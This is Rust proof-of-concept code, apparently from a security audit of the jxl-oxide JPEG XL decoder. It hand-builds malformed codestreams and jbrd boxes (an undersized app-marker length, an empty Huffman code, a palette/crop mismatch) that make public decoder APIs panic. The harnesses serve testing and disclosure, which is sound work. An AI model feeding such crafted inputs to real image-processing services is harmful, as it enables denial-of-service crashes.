fn stream(image_width: u32, ec_transform: EcTransform) -> Vec<u8> {
    let img = ImageOpts {
        width: image_width,
        height: 8,
        xyb: true,
        grey: false,
        num_extra: 1,
    };
    let mut bw = Bw::new();
    write_image_header(&mut bw, &img);
    let f = FrameOpts {
        lf_frame: false,
        modular: false,
        flags: SKIP_ADAPTIVE_LF_SMOOTHING,
        crop: (image_width != 260).then_some((0, 0, 260, 8)),
    };
    write_vardct_frame(
        &mut bw,
        &img,
        &f,
        &VardctContent {
            coder: Coder::Flat,
            varblocks: &[(DCT8, 1); 33],
            ec_transform,
            ec_value: 255, // opaque
        },
    );
    bw.bytes
}

fn main() {
    install_panic_hook();
    let (c1_panic, c1_ok) = report(
        "control 1 (8x8 image, 260x8 frame, no transform)",
        &stream(8, EcTransform::None),
    );
    let (c2_panic, c2_ok) = report(
        "control 2 (260x8 image, 260x8 frame, Palette)",
        &stream(260, EcTransform::Palette),
    );
    let (h_panic, _) = report(
        "hostile (8x8 image, 260x8 frame, Palette)",
        &stream(8, EcTransform::Palette),
    );
    // The same assertion is reachable with the well-formed control 2 through the cropping API.
    let (h2_panic, _) = report_region(
        "control 2 stream, rendering only the region (0, 0, 8, 8)",
        &stream(260, EcTransform::Palette),
        Some((0, 0, 8, 8)),
    );
    let h_panic = h_panic || h2_panic;
    if c1_panic || c2_panic || !c1_ok || !c2_ok {
        println!("UNEXPECTED: a control did not decode");
        std::process::exit(2);
    }
    if h_panic {
        println!("FAIL: hostile input panicked");
        std::process::exit(1);
    }
    println!("OK: hostile input did not panic");
}

//! D9: a jbrd (JPEG reconstruction) box whose ICC/Exif/XMP application-marker entry declares a length shorter than the
//! fixed marker header makes `JpegBitstreamHeader::expected_{icc,exif,xmp}_len` compute `length - 5 - 12` (etc.) in usize:
//! overflow panic in a checked build; in release the wrapped value is reported as the expected length.
//! Reached from the public, infallible `JxlImage::jpeg_reconstruction_status()`.
use std::panic::{catch_unwind, AssertUnwindSafe};

struct Bw { out: Vec<u8>, cur: u64, n: u32 }
impl Bw {
    fn new() -> Self { Self { out: vec![], cur: 0, n: 0 } }
    fn put(&mut self, v: u64, bits: u32) { // LSB first
        for i in 0..bits { let b = (v >> i) & 1; self.cur |= b << self.n; self.n += 1; if self.n == 8 { self.out.push(self.cur as u8); self.cur = 0; self.n = 0; } }
    }
    fn finish(mut self) -> Vec<u8> { if self.n > 0 { self.out.push(self.cur as u8); } self.out }
}

fn jbrd_payload(app_ty_selector: u64, app_ty_extra: Option<(u64, u32)>, length_minus_1: u64) -> Vec<u8> {
    let mut w = Bw::new();
    w.put(0, 1);            // is_gray
    w.put(0x20, 6);         // marker 0xe0 (APP0)
    w.put(0x19, 6);         // marker 0xd9 (EOI)
    w.put(app_ty_selector, 2); // AppMarker.ty = U32(0, 1, 2+u(1), 4+u(2))
    if let Some((v, n)) = app_ty_extra { w.put(v, n); }
    w.put(length_minus_1, 16); // AppMarker.length = u(16) + 1
    w.put(0, 2);            // one quant table
    w.put(0, 1); w.put(0, 2); w.put(1, 1); // precision, index, is_last
    w.put(0, 2);            // comp_type 0: one component
    w.put(0, 2);            // q_idx
    w.put(1, 2); w.put(0, 3); // num_huff = 2
    for _ in 0..2 { w.put(0, 1); w.put(0, 2); w.put(1, 1); for _ in 0..17 { w.put(0, 2); } }
    // no scans, no DRI, no intermarker data
    w.put(0, 2);            // tail_data_length = 0
    w.put(0, 1);            // no padding bits
    let mut v = w.finish();
    v.push(0x06);           // empty Brotli stream
    v
}

fn boxed(ty: &[u8; 4], payload: &[u8]) -> Vec<u8> {
    let mut v = ((payload.len() + 8) as u32).to_be_bytes().to_vec();
    v.extend_from_slice(ty); v.extend_from_slice(payload); v
}

fn main() {
    let mut failures = 0;
    // 1. jxl-jbr public API directly
    for (name, sel, extra, f) in [
        ("icc", 1u64, None, 0usize), ("exif", 2, Some((0u64, 1u32)), 1), ("xmp", 2, Some((1, 1)), 2),
    ] {
        let payload = jbrd_payload(sel, extra, 0);
        let data = match jxl_jbr::JpegBitstreamData::try_parse(&payload) {
            Ok(Some(d)) => d,
            Ok(None) => { println!("[{name}] header incomplete?"); failures += 1; continue; }
            Err(e) => { println!("[{name}] rejected with an error: {e}"); continue; }
        };
        let r = catch_unwind(AssertUnwindSafe(|| {
            let h = data.header();
            match f { 0 => h.expected_icc_len(), 1 => h.expected_exif_len(), _ => h.expected_xmp_len() }
        }));
        match r {
            Ok(v) if v > (1 << 32) => { println!("[{name}] expected len wrapped to {v} (release arithmetic)"); failures += 1; }
            Ok(v) => println!("[{name}] expected len {v}"),
            Err(_) => { println!("[{name}] PANICKED in expected_{name}_len()"); failures += 1; }
        }
    }
    // 2. end to end: container = signature, ftyp, jbrd, jxlc(tiny codestream)
    let mut file = vec![0, 0, 0, 0xc, b'J', b'X', b'L', b' ', 0xd, 0xa, 0x87, 0xa];
    file.extend_from_slice(&[0, 0, 0, 0x14, b'f', b't', b'y', b'p', b'j', b'x', b'l', b' ', 0, 0, 0, 0, b'j', b'x', b'l', b' ']);
    file.extend_from_slice(&boxed(b"jbrd", &jbrd_payload(1, None, 0)));
    let cs: [u8; 38] = [0xff, 0x0a, 0x4f, 0x06, 0x58, 0x10, 0x48, 0x00, 0x70, 0x00, 0x12, 0x16, 0x68, 0x20, 0x10, 0x40, 0x02, 0xff, 0xff, 0xff, 0xff, 0x01,
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    file.extend_from_slice(&boxed(b"jxlc", &cs));
    let r = catch_unwind(AssertUnwindSafe(|| {
        match jxl_oxide::JxlImage::builder().read(std::io::Cursor::new(&file)) {
            Ok(image) => format!("{:?}", image.jpeg_reconstruction_status()),
            Err(e) => format!("read() returned an error: {e}"),
        }
    }));
    match r {
        Ok(s) => println!("[end-to-end] {s}"),
        Err(_) => { println!("[end-to-end] JxlImage::jpeg_reconstruction_status() PANICKED"); failures += 1; }
    }
    std::process::exit(if failures > 0 { 1 } else { 0 });
}

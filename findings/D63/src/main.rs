//! D63: a jbrd Huffman code whose 17 counts are all zero (so it has no values, not even the sentinel) makes
//! `reconstruct_jpeg` panic instead of returning an error.
#![allow(dead_code)]

use std::sync::Mutex;

include!("builders.rs");

static LAST_PANIC: Mutex<Option<String>> = Mutex::new(None);

fn main() {
    std::panic::set_hook(Box::new(|info| {
        let msg = info
            .payload()
            .downcast_ref::<String>()
            .cloned()
            .or_else(|| info.payload().downcast_ref::<&str>().map(|s| s.to_string()))
            .unwrap_or_default();
        let loc = info
            .location()
            .map(|l| format!("{}:{}:{}", l.file(), l.line(), l.column()))
            .unwrap_or_default();
        *LAST_PANIC.lock().unwrap() = Some(format!("\"{msg}\" at {loc}"));
    }));
    let j = make_jpeg(false);
    let original = write_jpeg(&j);
    let mut failed = false;
    for hostile in [false, true] {
        EMPTY_FIRST_HUFFMAN_CODE.store(hostile, std::sync::atomic::Ordering::Relaxed);
        let file = build_container(&j);
        let image = match JxlImage::builder().read(&file[..]) {
            Ok(i) => i,
            Err(e) => {
                println!("[empty code: {hostile}] rejected while reading: {e}");
                continue;
            }
        };
        let mut out = Vec::new();
        let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| image.reconstruct_jpeg(&mut out)));
        match r {
            Ok(Ok(())) => println!("[empty code: {hostile}] status {:?}, reconstruct_jpeg: Ok (byte-exact: {})", image.jpeg_reconstruction_status(), out == original),
            Ok(Err(e)) => println!("[empty code: {hostile}] status {:?}, reconstruct_jpeg: Err({e})", image.jpeg_reconstruction_status()),
            Err(_) => {
                failed = true;
                println!("[empty code: {hostile}] status {:?}, reconstruct_jpeg: PANIC {}", image.jpeg_reconstruction_status(), LAST_PANIC.lock().unwrap().take().unwrap_or_default());
            }
        }
    }
    std::process::exit(failed as i32);
}

static EMPTY_FIRST_HUFFMAN_CODE: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);
use jxl_oxide::JxlImage;
use jxl_vardct::DCT8_NATURAL_ORDER as NAT;

// ---------------------------------------------------------------------------------------------
// Abstract description of the JPEG
// ---------------------------------------------------------------------------------------------

struct Component {
    id: u8,
    q_idx: u8,
}

struct HuffTable {
    is_ac: bool,
    id: u8,
    /// Number of codes of length 1..=16.
    counts: [u8; 16],
    values: Vec<u8>,
}

struct Jpeg {
    width: u32,
    height: u32,
    rgb: bool,
    components: [Component; 3],
    /// Quantisation tables, zigzag order; index in the vector is the table id.
    quant: Vec<[u16; 64]>,
    huffman: Vec<HuffTable>,
    /// Per component, per block (raster order), 64 quantised coefficients in zigzag order.
    coeffs: [Vec<[i16; 64]>; 3],
    app14: Vec<u8>,
}

impl Jpeg {
    fn blocks_w(&self) -> u32 {
        self.width / 8
    }
    fn blocks_h(&self) -> u32 {
        self.height / 8
    }
}

// ---------------------------------------------------------------------------------------------
// Independent JPEG writer (the "original" file)
// ---------------------------------------------------------------------------------------------

struct JpegBits {
    out: Vec<u8>,
    acc: u32,
    n: u32,
}

impl JpegBits {
    fn put(&mut self, code: u32, len: u32) {
        for i in (0..len).rev() {
            self.acc = (self.acc << 1) | ((code >> i) & 1);
            self.n += 1;
            if self.n == 8 {
                let b = self.acc as u8;
                self.out.push(b);
                if b == 0xff {
                    self.out.push(0);
                }
                self.acc = 0;
                self.n = 0;
            }
        }
    }

    fn finish(mut self) -> Vec<u8> {
        while self.n != 0 {
            self.put(1, 1);
        }
        self.out
    }
}

fn canonical_codes(t: &HuffTable) -> Vec<Option<(u32, u32)>> {
    let mut map = vec![None; 256];
    let mut code = 0u32;
    let mut k = 0usize;
    for len in 1..=16u32 {
        for _ in 0..t.counts[len as usize - 1] {
            map[t.values[k] as usize] = Some((code, len));
            code += 1;
            k += 1;
        }
        code <<= 1;
    }
    map
}

fn magnitude(v: i32) -> (u32, u32) {
    let a = v.unsigned_abs();
    let size = 32 - a.leading_zeros();
    let bits = if v < 0 {
        (v - 1) as u32 & ((1 << size) - 1)
    } else {
        v as u32
    };
    (size, bits)
}

fn write_jpeg(j: &Jpeg) -> Vec<u8> {
    let mut out = vec![0xff, 0xd8];

    // APP14
    out.extend_from_slice(&[0xff, 0xee]);
    out.extend_from_slice(&((j.app14.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(&j.app14);

    // DQT, all tables in one segment
    out.extend_from_slice(&[0xff, 0xdb]);
    out.extend_from_slice(&((2 + 65 * j.quant.len()) as u16).to_be_bytes());
    for (idx, q) in j.quant.iter().enumerate() {
        out.push(idx as u8);
        out.extend(q.iter().map(|&v| v as u8));
    }

    // SOF0
    out.extend_from_slice(&[0xff, 0xc0, 0, 17, 8]);
    out.extend_from_slice(&(j.height as u16).to_be_bytes());
    out.extend_from_slice(&(j.width as u16).to_be_bytes());
    out.push(3);
    for c in &j.components {
        out.extend_from_slice(&[c.id, 0x11, c.q_idx]);
    }

    // DHT, all tables in one segment
    out.extend_from_slice(&[0xff, 0xc4]);
    let len: usize = 2 + j.huffman.iter().map(|t| 17 + t.values.len()).sum::<usize>();
    out.extend_from_slice(&(len as u16).to_be_bytes());
    for t in &j.huffman {
        out.push(t.id | if t.is_ac { 0x10 } else { 0 });
        out.extend_from_slice(&t.counts);
        out.extend_from_slice(&t.values);
    }

    // SOS
    out.extend_from_slice(&[0xff, 0xda, 0, 12, 3]);
    for c in &j.components {
        out.extend_from_slice(&[c.id, 0x00]);
    }
    out.extend_from_slice(&[0, 63, 0]);

    let dc = canonical_codes(j.huffman.iter().find(|t| !t.is_ac).unwrap());
    let ac = canonical_codes(j.huffman.iter().find(|t| t.is_ac).unwrap());
    let mut bits = JpegBits {
        out: Vec::new(),
        acc: 0,
        n: 0,
    };
    let mut pred = [0i32; 3];
    for b in 0..(j.blocks_w() * j.blocks_h()) as usize {
        for c in 0..3 {
            let block = &j.coeffs[c][b];
            let diff = block[0] as i32 - pred[c];
            pred[c] = block[0] as i32;
            let (size, raw) = magnitude(diff);
            let (code, len) = dc[size as usize].unwrap();
            bits.put(code, len);
            bits.put(raw, size);

            let mut run = 0u32;
            for k in 1..64 {
                let v = block[k] as i32;
                if v == 0 {
                    run += 1;
                    continue;
                }
                while run >= 16 {
                    let (code, len) = ac[0xf0].unwrap();
                    bits.put(code, len);
                    run -= 16;
                }
                let (size, raw) = magnitude(v);
                let (code, len) = ac[((run << 4) | size) as usize].unwrap();
                bits.put(code, len);
                bits.put(raw, size);
                run = 0;
            }
            if run > 0 {
                let (code, len) = ac[0].unwrap();
                bits.put(code, len);
            }
        }
    }
    out.extend(bits.finish());
    out.extend_from_slice(&[0xff, 0xd9]);
    out
}

// ---------------------------------------------------------------------------------------------
// JPEG XL side: LSB-first bit writer and the pieces of the codestream
// ---------------------------------------------------------------------------------------------

#[derive(Default)]
struct Bw {
    buf: Vec<u8>,
    nbits: usize,
}

impl Bw {
    fn put(&mut self, v: u64, n: usize) {
        for i in 0..n {
            if self.nbits % 8 == 0 {
                self.buf.push(0);
            }
            let bit = ((v >> i) & 1) as u8;
            *self.buf.last_mut().unwrap() |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }

    fn pad(&mut self) {
        self.nbits = self.buf.len() * 8;
    }

    /// `U32` with the given selector and `n` extra bits.
    fn sel(&mut self, selector: u64, extra: u64, n: usize) {
        self.put(selector, 2);
        self.put(extra, n);
    }

    fn f16(&mut self, bits: u16) {
        self.put(bits as u64, 16);
    }
}

/// Entropy code description: no LZ77, every context in one cluster, prefix code with 32 symbols of
/// 5 bits each, hybrid integer configuration (4, 0, 0).
fn write_code(bw: &mut Bw, num_dist: u32) {
    bw.put(0, 1); // lz77.enabled
    if num_dist > 1 {
        bw.put(1, 1); // is_simple
        bw.put(0, 2); // nbits
    }
    bw.put(1, 1); // use_prefix_code
    bw.put(4, 4); // split_exponent
    bw.put(0, 3); // msb_in_token
    bw.put(0, 3); // lsb_in_token
    bw.put(1, 1); // alphabet size > 1
    bw.put(4, 4);
    bw.put(15, 4); // 1 + 16 + 15 = 32
    bw.put(0, 2); // hskip
    // code length code lengths in order 1 2 3 4 0 5 17 6 16 7 ..; only symbol 5 is used
    for idx in 0..18 {
        bw.put(if idx == 5 { 1 } else { 0 }, 2);
    }
}

fn write_uint(bw: &mut Bw, v: u32) {
    let (token, extra, n) = if v < 16 {
        (v, 0, 0)
    } else {
        let n = 31 - v.leading_zeros();
        (16 + (n - 4), v - (1 << n), n as usize)
    };
    assert!(token < 32);
    let rev = (token as u8).reverse_bits() >> 3;
    bw.put(rev as u64, 5);
    bw.put(extra as u64, n);
}

fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        2 * v as u32
    } else {
        (-2 * v - 1) as u32
    }
}

/// Modular sub-bitstream: local tree with a single leaf (zero predictor), then the samples.
fn write_modular(bw: &mut Bw, channels: &[Vec<i32>]) {
    bw.put(0, 1); // use_global_tree
    bw.put(1, 1); // default_wp
    bw.put(0, 2); // nb_transforms = 0
    write_code(bw, 6);
    for _ in 0..5 {
        // leaf, predictor 0, offset 0, mul_log 0, mul_bits 0
        write_uint(bw, 0);
    }
    write_code(bw, 1);
    for ch in channels {
        for &v in ch {
            write_uint(bw, pack_signed(v));
        }
    }
}

fn build_codestream(j: &Jpeg) -> Vec<u8> {
    let bw8 = j.blocks_w() as usize;
    let bh8 = j.blocks_h() as usize;
    // JPEG component index -> frame channel (X, Y, B order)
    let chan_of_comp: [usize; 3] = if j.rgb { [0, 1, 2] } else { [1, 0, 2] };
    let comp_of_chan = |ch: usize| chan_of_comp.iter().position(|&c| c == ch).unwrap();

    let mut bw = Bw::default();
    // signature
    bw.put(0xff, 8);
    bw.put(0x0a, 8);
    // SizeHeader
    bw.put(1, 1); // div8
    bw.put(j.height as u64 / 8 - 1, 5);
    bw.put(0, 3); // ratio
    bw.put(j.width as u64 / 8 - 1, 5);
    // ImageMetadata
    bw.put(0, 1); // all_default
    bw.put(0, 1); // extra_fields
    bw.put(0, 1); // bit_depth: integer
    bw.put(0, 2); //   8 bits
    bw.put(1, 1); // modular_16bit_buffers
    bw.put(0, 2); // num_extra = 0
    bw.put(0, 1); // xyb_encoded
    bw.put(1, 1); // colour_encoding.all_default
    bw.put(0, 2); // extensions
    bw.put(1, 1); // default_m
    bw.pad();

    // FrameHeader
    bw.put(0, 1); // all_default
    bw.put(0, 2); // regular frame
    bw.put(0, 1); // VarDCT
    bw.sel(2, 0x80 - 17, 8); // flags = skip adaptive LF smoothing
    bw.put(!j.rgb as u64, 1); // do_ycbcr
    if !j.rgb {
        bw.put(0, 6); // jpeg_upsampling
    }
    bw.put(0, 2); // upsampling = 1
    bw.put(0, 2); // num_passes = 1
    bw.put(0, 1); // have_crop
    bw.put(0, 2); // blend mode: replace
    bw.put(1, 1); // is_last
    bw.put(0, 2); // name
    bw.put(1, 1); // restoration_filter.all_default
    bw.put(0, 2); // extensions

    // Frame data (single TOC entry)
    let mut fd = Bw::default();
    // LfGlobal
    fd.put(1, 1); // lf dequant all_default
    fd.sel(0, 0, 11); // global_scale = 1
    fd.sel(0, 0, 0); // quant_lf = 16
    fd.put(1, 1); // default block context
    fd.put(0, 1); // LfChannelCorrelation.all_default
    fd.sel(0, 0, 0); //   colour_factor = 84
    fd.f16(0); //   base_correlation_x
    fd.f16(0); //   base_correlation_b
    fd.put(128, 8);
    fd.put(128, 8);
    fd.put(0, 1); // no global tree

    // LfGroup: LF coefficients, channels in Y, X, B order
    fd.put(0, 2); // extra_precision
    let lf_channels: Vec<Vec<i32>> = [1usize, 0, 2]
        .iter()
        .map(|&ch| {
            let comp = comp_of_chan(ch);
            let q0 = j.quant[j.components[comp].q_idx as usize][0] as i32;
            let offset = if j.rgb { 1024 / q0 } else { 0 };
            j.coeffs[comp]
                .iter()
                .map(|b| b[0] as i32 + offset)
                .collect()
        })
        .collect();
    write_modular(&mut fd, &lf_channels);
    // HfMetadata
    let nb_blocks = bw8 * bh8;
    let nb_bits = nb_blocks.next_power_of_two().trailing_zeros() as usize;
    fd.put(nb_blocks as u64 - 1, nb_bits);
    let w64 = (j.width as usize).div_ceil(64);
    let h64 = (j.height as usize).div_ceil(64);
    write_modular(
        &mut fd,
        &[
            vec![0; w64 * h64],
            vec![0; w64 * h64],
            vec![0; nb_blocks * 2], // DCT8, HfMul = 1
            vec![0; nb_blocks],
        ],
    );

    // HfGlobal: raw quantisation tables for 8x8, library defaults for the rest
    fd.put(0, 1); // all_default
    fd.put(7, 3); // raw
    fd.f16(0x1004); // 1 / 2040
    let raw: Vec<Vec<i32>> = (0..3)
        .map(|ch| {
            let q = &j.quant[j.components[comp_of_chan(ch)].q_idx as usize];
            let mut m = vec![0i32; 64];
            for k in 0..64 {
                let (a, b) = NAT[k];
                m[b as usize + 8 * a as usize] = q[k] as i32;
            }
            m
        })
        .collect();
    write_modular(&mut fd, &raw);
    for _ in 1..17 {
        fd.put(0, 3);
    }
    // HfPass
    fd.sel(2, 0, 0); // used_orders = 0
    write_code(&mut fd, 495 * 15);

    // PassGroup: coefficients. The frame keeps 8x8 blocks transposed.
    let order_idx: Vec<usize> = (0..64)
        .map(|k| {
            let (a, b) = NAT[k];
            NAT.iter().position(|&p| p == (b, a)).unwrap()
        })
        .collect();
    for b in 0..nb_blocks {
        for ch in [1usize, 0, 2] {
            let block = &j.coeffs[comp_of_chan(ch)][b];
            let mut in_order = [0i32; 64];
            for k in 1..64 {
                in_order[order_idx[k]] = block[k] as i32;
            }
            let non_zeros = in_order[1..].iter().filter(|&&v| v != 0).count() as u32;
            write_uint(&mut fd, non_zeros);
            let mut left = non_zeros;
            for &v in &in_order[1..] {
                if left == 0 {
                    break;
                }
                write_uint(&mut fd, pack_signed(v));
                if v != 0 {
                    left -= 1;
                }
            }
        }
    }
    fd.pad();

    // TOC
    bw.put(0, 1); // not permuted
    bw.pad();
    let size = fd.buf.len() as u64;
    if size < 1024 {
        bw.sel(0, size, 10);
    } else {
        assert!(size < 17408);
        bw.sel(1, size - 1024, 14);
    }
    bw.pad();

    let mut out = bw.buf;
    out.extend(fd.buf);
    out
}

fn build_jbrd(j: &Jpeg) -> Vec<u8> {
    let mut bw = Bw::default();
    bw.put(0, 1); // is_gray
    for m in [0xeeu8, 0xdb, 0xc0, 0xc4, 0xda, 0xd9] {
        bw.put((m - 0xc0) as u64, 6);
    }
    // APP14, unknown type: stored in the data section as marker byte + segment
    let app_len = 1 + 2 + j.app14.len();
    bw.sel(0, 0, 0);
    bw.put(app_len as u64 - 1, 16);
    // quant tables
    bw.put(j.quant.len() as u64 - 1, 2);
    for idx in 0..j.quant.len() {
        bw.put(0, 1); // precision
        bw.put(idx as u64, 2);
        bw.put((idx + 1 == j.quant.len()) as u64, 1); // is_last
    }
    // components
    bw.put(if j.rgb { 2 } else { 1 }, 2);
    for c in &j.components {
        bw.put(c.q_idx as u64, 2);
    }
    // Huffman codes
    assert_eq!(j.huffman.len(), 2);
    bw.sel(1, 0, 3);
    for (idx, t) in j.huffman.iter().enumerate() {
        bw.put(t.is_ac as u64, 1);
        bw.put(t.id as u64, 2);
        bw.put((idx + 1 == j.huffman.len()) as u64, 1);
        if idx == 0 && EMPTY_FIRST_HUFFMAN_CODE.load(std::sync::atomic::Ordering::Relaxed) {
            // hostile: every count zero, hence no values at all (not even the sentinel)
            for _ in 0..17 {
                bw.sel(0, 0, 0);
            }
            continue;
        }
        // counts for lengths 0..=16, with the sentinel symbol 256 added to the longest length
        let mut counts = [0u32; 17];
        for (len, &c) in t.counts.iter().enumerate() {
            counts[len + 1] = c as u32;
        }
        let longest = counts.iter().rposition(|&c| c != 0).unwrap();
        counts[longest] += 1;
        for c in counts {
            match c {
                0 => bw.sel(0, 0, 0),
                1 => bw.sel(1, 0, 0),
                2..=9 => bw.sel(2, c as u64 - 2, 3),
                _ => bw.sel(3, c as u64, 8),
            }
        }
        let values = t.values.iter().map(|&v| v as u32).chain([256]);
        for v in values {
            match v {
                0..=3 => bw.sel(0, v as u64, 2),
                4..=7 => bw.sel(1, v as u64 - 4, 2),
                8..=23 => bw.sel(2, v as u64 - 8, 4),
                _ => bw.sel(3, v as u64 - 1, 8),
            }
        }
    }
    // scan info
    bw.put(2, 2); // three components
    bw.put(0, 6); // Ss
    bw.put(63, 6); // Se
    bw.put(0, 4); // Al
    bw.put(0, 4); // Ah
    for c in 0..3 {
        bw.put(c, 2);
        bw.put(0, 2); // AC table
        bw.put(0, 2); // DC table
    }
    bw.sel(0, 0, 0); // last_needed_pass
    // scan more info
    bw.sel(0, 0, 0); // reset points
    bw.sel(0, 0, 0); // extra zero runs
    bw.sel(0, 0, 0); // tail data length
    bw.put(0, 1); // has_padding
    bw.pad();

    // Data section: one uncompressed Brotli meta-block
    let mut data = vec![0xee];
    data.extend_from_slice(&((j.app14.len() + 2) as u16).to_be_bytes());
    data.extend_from_slice(&j.app14);
    assert_eq!(data.len(), app_len);
    let mut br = Bw::default();
    br.put(0, 1); // WBITS = 16
    br.put(0, 1); // ISLAST
    br.put(0, 2); // MNIBBLES = 4
    br.put(data.len() as u64 - 1, 16);
    br.put(1, 1); // ISUNCOMPRESSED
    br.pad();
    br.buf.extend_from_slice(&data);
    br.buf.push(0x03); // ISLAST, ISLASTEMPTY

    let mut out = bw.buf;
    out.extend(br.buf);
    out
}

fn boxed(ty: &[u8; 4], payload: &[u8]) -> Vec<u8> {
    let mut out = ((payload.len() + 8) as u32).to_be_bytes().to_vec();
    out.extend_from_slice(ty);
    out.extend_from_slice(payload);
    out
}

fn build_container(j: &Jpeg) -> Vec<u8> {
    let mut out = b"\x00\x00\x00\x0cJXL \x0d\x0a\x87\x0a".to_vec();
    out.extend(boxed(b"ftyp", b"jxl \0\0\0\0jxl "));
    out.extend(boxed(b"jbrd", &build_jbrd(j)));
    out.extend(boxed(b"jxlc", &build_codestream(j)));
    out
}

// ---------------------------------------------------------------------------------------------
// Test images
// ---------------------------------------------------------------------------------------------

fn make_jpeg(rgb: bool) -> Jpeg {
    let width = 32u32;
    let height = 16u32;

    // Three different tables; in the YCbCr file both chroma components share table 1.
    let mut quant = Vec::new();
    for t in 0..3u16 {
        let mut q = [0u16; 64];
        for (k, v) in q.iter_mut().enumerate() {
            *v = 2 + 3 * t + (k as u16) * (t + 1) / 2;
        }
        quant.push(q);
    }
    let components = if rgb {
        [
            Component { id: b'R', q_idx: 0 },
            Component { id: b'G', q_idx: 1 },
            Component { id: b'B', q_idx: 2 },
        ]
    } else {
        quant.truncate(2);
        [
            Component { id: 1, q_idx: 0 },
            Component { id: 2, q_idx: 1 },
            Component { id: 3, q_idx: 1 },
        ]
    };

    // DC: categories 0..=11, 4 bits each. AC: EOB, ZRL and run/size pairs with size 1..=4,
    // 7 bits each.
    let mut dc_counts = [0u8; 16];
    dc_counts[3] = 12;
    let dc = HuffTable {
        is_ac: false,
        id: 0,
        counts: dc_counts,
        values: (0..12).collect(),
    };
    let mut ac_values = vec![0x00u8, 0xf0];
    for run in 0..16u8 {
        for size in 1..=4u8 {
            ac_values.push((run << 4) | size);
        }
    }
    let mut ac_counts = [0u8; 16];
    ac_counts[6] = ac_values.len() as u8;
    let ac = HuffTable {
        is_ac: true,
        id: 0,
        counts: ac_counts,
        values: ac_values,
    };

    // Deterministic pseudo-random coefficients.
    let mut state = 0x2545f491u32;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        state
    };
    let nblocks = (width / 8 * height / 8) as usize;
    let coeffs: [Vec<[i16; 64]>; 3] = std::array::from_fn(|_| {
        (0..nblocks)
            .map(|_| {
                let mut b = [0i16; 64];
                b[0] = (next() % 401) as i16 - 200;
                for v in b.iter_mut().skip(1) {
                    let r = next();
                    if r % 5 == 0 {
                        *v = ((r >> 8) % 31) as i16 - 15;
                    }
                }
                // keep a long zero run and a zero tail in some blocks
                if next() % 2 == 0 {
                    for v in &mut b[20..45] {
                        *v = 0;
                    }
                }
                if next() % 3 != 0 {
                    let from = 30 + (next() % 30) as usize;
                    for v in &mut b[from..] {
                        *v = 0;
                    }
                }
                b
            })
            .collect()
    });

    let mut app14 = b"Adobe".to_vec();
    app14.extend_from_slice(&[0, 100, 0, 0, 0, 0, if rgb { 0 } else { 1 }]);

    Jpeg {
        width,
        height,
        rgb,
        components,
        quant,
        huffman: vec![dc, ac],
        coeffs,
        app14,
    }
}


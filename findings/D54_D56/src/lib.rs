//! Minimal hand-rolled JPEG XL codestream writer (Modular, non-XYB, 8-bit) for audit experiments.

pub struct BitWriter {
    pub bytes: Vec<u8>,
    nbits: usize,
}

impl Default for BitWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl BitWriter {
    pub fn new() -> Self {
        Self {
            bytes: Vec::new(),
            nbits: 0,
        }
    }
    pub fn bits(&mut self, v: u64, n: usize) {
        for i in 0..n {
            let bit = ((v >> i) & 1) as u8;
            if self.nbits % 8 == 0 {
                self.bytes.push(0);
            }
            let last = self.bytes.last_mut().unwrap();
            *last |= bit << (self.nbits % 8);
            self.nbits += 1;
        }
    }
    pub fn bool(&mut self, b: bool) {
        self.bits(b as u64, 1);
    }
    pub fn pad(&mut self) {
        while self.nbits % 8 != 0 {
            self.bits(0, 1);
        }
    }
    /// selector + extra bits
    pub fn sel(&mut self, sel: u32, v: u32, n: usize) {
        self.bits(sel as u64, 2);
        self.bits(v as u64, n);
    }
    pub fn u64v(&mut self, v: u64) {
        if v == 0 {
            self.bits(0, 2);
        } else if v <= 16 {
            self.bits(1, 2);
            self.bits(v - 1, 4);
        } else if v <= 272 {
            self.bits(2, 2);
            self.bits(v - 17, 8);
        } else {
            assert!(v < 4096);
            self.bits(3, 2);
            self.bits(v, 12);
            self.bits(0, 1);
        }
    }
    pub fn append_aligned(&mut self, b: &[u8]) {
        assert!(self.nbits % 8 == 0);
        self.bytes.extend_from_slice(b);
        self.nbits += b.len() * 8;
    }
    pub fn finish(mut self) -> Vec<u8> {
        self.pad();
        self.bytes
    }
}

pub fn pack_signed(v: i32) -> u32 {
    if v >= 0 {
        (v as u32) * 2
    } else {
        ((-(v as i64)) as u32) * 2 - 1
    }
}

/// Entropy code header: `num_dist` contexts, all in one cluster, flat 32-symbol prefix code,
/// hybrid uint config (0,0,0).
pub fn write_entropy_header(w: &mut BitWriter, num_dist: u32) {
    w.bool(false); // lz77 disabled
    if num_dist > 1 {
        w.bool(true); // simple clustering
        w.bits(0, 2); // nbits = 0
    }
    w.bool(true); // use_prefix_code
    w.bits(0, 4); // split_exponent = 0
    // alphabet size 32
    w.bool(true);
    w.bits(4, 4);
    w.bits(15, 4);
    // complex prefix code, hskip = 0
    w.bits(0, 2);
    for _ in 0..5 {
        w.bits(0, 2);
    }
    w.bits(1, 2); // code length symbol 5 has length 4 (only nonzero)
    for _ in 0..12 {
        w.bits(0, 2);
    }
}

pub fn write_value(w: &mut BitWriter, v: u32) {
    let (token, n, extra) = if v == 0 {
        (0u32, 0usize, 0u32)
    } else {
        let n = 31 - v.leading_zeros();
        (1 + n, n as usize, v - (1 << n))
    };
    // 5-bit canonical code, MSB first
    for i in (0..5).rev() {
        w.bits(((token >> i) & 1) as u64, 1);
    }
    w.bits(extra as u64, n);
}

#[derive(Clone, Debug)]
pub enum Tree {
    Leaf {
        pred: u32,
        offset: i32,
        mul_log: u32,
        mul_bits: u32,
    },
    Node {
        prop: u32,
        value: i32,
        /// taken when property > value
        left: Box<Tree>,
        right: Box<Tree>,
    },
}

impl Tree {
    pub fn zero_leaf() -> Tree {
        Tree::Leaf {
            pred: 0,
            offset: 0,
            mul_log: 0,
            mul_bits: 0,
        }
    }
    pub fn leaf(pred: u32, offset: i32) -> Tree {
        Tree::Leaf {
            pred,
            offset,
            mul_log: 0,
            mul_bits: 0,
        }
    }
    pub fn node(prop: u32, value: i32, left: Tree, right: Tree) -> Tree {
        Tree::Node {
            prop,
            value,
            left: Box::new(left),
